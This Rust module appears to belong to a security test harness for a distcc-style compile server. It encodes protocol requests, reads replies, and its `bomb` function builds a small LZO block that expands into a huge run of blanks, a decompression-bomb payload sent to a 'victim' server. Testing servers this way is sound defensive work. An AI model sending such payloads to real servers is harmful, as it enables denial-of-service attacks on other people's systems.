//! Requests as bytes, lawful ones and others.

use std::io::{Read, Write};
use std::net::TcpStream;
use std::time::{Duration, Instant};

use crate::victim::Victim;

/// Which of the original's protocols.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Protocol {
    Plain,
    Lzo,
}

impl Protocol {
    pub(crate) const BOTH: [Self; 2] = [Self::Plain, Self::Lzo];

    pub(crate) fn number(self) -> u32 {
        match self {
            Self::Plain => 1,
            Self::Lzo => 2,
        }
    }

    /// Its first token.
    pub(crate) fn greeting(self) -> Vec<u8> {
        token("DIST", self.number())
    }

    /// A body with its token.
    pub(crate) fn body(self, text: &[u8]) -> Vec<u8> {
        let bytes = match self {
            Self::Plain => text.to_vec(),
            Self::Lzo if text.is_empty() => Vec::new(),
            Self::Lzo => lzo1x::compress(text, lzo1x::CompressLevel::default()),
        };
        [token("DOTI", u32::try_from(bytes.len()).unwrap()), bytes].concat()
    }

    /// Greeting and command.
    pub(crate) fn head(self, argv: &[impl AsRef<[u8]>]) -> Vec<u8> {
        let mut bytes = self.greeting();
        bytes.extend(token("ARGC", u32::try_from(argv.len()).unwrap()));
        for word in argv {
            bytes.extend(token("ARGV", u32::try_from(word.as_ref().len()).unwrap()));
            bytes.extend(word.as_ref());
        }
        bytes
    }

    /// A whole request.
    pub(crate) fn request(self, argv: &[impl AsRef<[u8]>], source: &[u8]) -> Vec<u8> {
        [self.head(argv), self.body(source)].concat()
    }
}

/// Four letters and a number.
pub(crate) fn token(name: &str, number: u32) -> Vec<u8> {
    format!("{name}{number:08x}").into_bytes()
}

/// A block that expands to this many blanks, and hardly anything itself.
pub(crate) fn bomb(n_blanks: usize) -> Vec<u8> {
    let mut block = vec![17 + 4, b' ', b' ', b' ', b' '];
    // One match with the byte before, as long as it takes: 33, 255 for each zero byte, the rest.
    let long = n_blanks - 4 - 33;
    block.push(0x20);
    block.extend(std::iter::repeat_n(0, (long - 1) / 255));
    block.push(u8::try_from((long - 1) % 255 + 1).unwrap());
    block.extend([0, 0]);
    block.extend([0x11, 0, 0]);
    block
}

/// All that comes until the server closes or `patience` is over; true if it closed.
pub(crate) fn read_answer(stream: &mut TcpStream, patience: Duration) -> (Vec<u8>, bool) {
    let deadline = Instant::now() + patience;
    let mut answer = Vec::new();
    let mut buffer = vec![0; 1 << 16];
    loop {
        let left = deadline.saturating_duration_since(Instant::now());
        if left.is_zero() {
            return (answer, false);
        }
        stream.set_read_timeout(Some(left)).unwrap();
        match stream.read(&mut buffer) {
            Ok(0) => return (answer, true),
            Ok(n_read) => answer.extend(&buffer[..n_read]),
            Err(error) => match error.kind() {
                std::io::ErrorKind::WouldBlock | std::io::ErrorKind::TimedOut => {
                    return (answer, false);
                }
                std::io::ErrorKind::Interrupted => {}
                _ => return (answer, true),
            },
        }
    }
}

/// What is in an answer: diagnostics and object one after the other, each expanded to at most so
/// many bytes.
pub(crate) fn expanded(protocol: Protocol, answer: &[u8], room: usize) -> Vec<u8> {
    let mut rest = answer;
    let mut all = Vec::new();
    while let Some((head, behind)) = rest.split_first_chunk::<12>() {
        let number = std::str::from_utf8(&head[4..]).ok();
        let Some(len) = number.and_then(|digits| usize::from_str_radix(digits, 16).ok()) else {
            break;
        };
        if matches!(&head[..4], b"DONE" | b"STAT") {
            rest = behind;
            continue;
        }
        let (body, behind) = behind.split_at(len.min(behind.len()));
        match protocol {
            Protocol::Lzo if !body.is_empty() => all.extend(expanded_block(body, room)),
            _ => all.extend(body),
        }
        rest = behind;
    }
    all
}

fn expanded_block(block: &[u8], room: usize) -> Vec<u8> {
    // The library fills it from the front before it notices that the length is another one.
    let mut text = vec![0; room];
    let _ = lzo1x::decompress(block, &mut text);
    text.truncate(text.iter().rposition(|byte| *byte != 0).map_or(0, |last| last + 1));
    text
}

/// A connection that has sent these bytes. What the server does not take is no error.
pub(crate) fn send(victim: &Victim, bytes: &[u8]) -> TcpStream {
    let mut stream = victim.connect();
    // A server that reads nothing more would make the attacker wait, and the test with it.
    stream.set_write_timeout(Some(Duration::from_secs(10))).unwrap();
    let _ = stream.write_all(bytes);
    stream
}
